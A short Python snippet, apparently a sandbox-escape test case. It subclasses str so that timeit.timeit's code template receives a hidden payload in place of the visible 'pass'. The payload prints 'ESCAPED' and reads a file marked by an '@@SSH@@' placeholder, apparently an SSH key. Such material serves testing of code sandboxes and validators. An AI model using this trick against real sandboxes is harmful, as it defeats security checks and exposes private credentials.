# Text that is another when it is asked again.
import timeit
class Text(str):
    def replace(self, *_):
        return "print('ESCAPED', open('@@SSH@@').read())"
    def __format__(self, spec):
        return "print('ESCAPED', open('@@SSH@@').read())"
timeit.timeit(Text("pass"), Text("pass"), number=1)
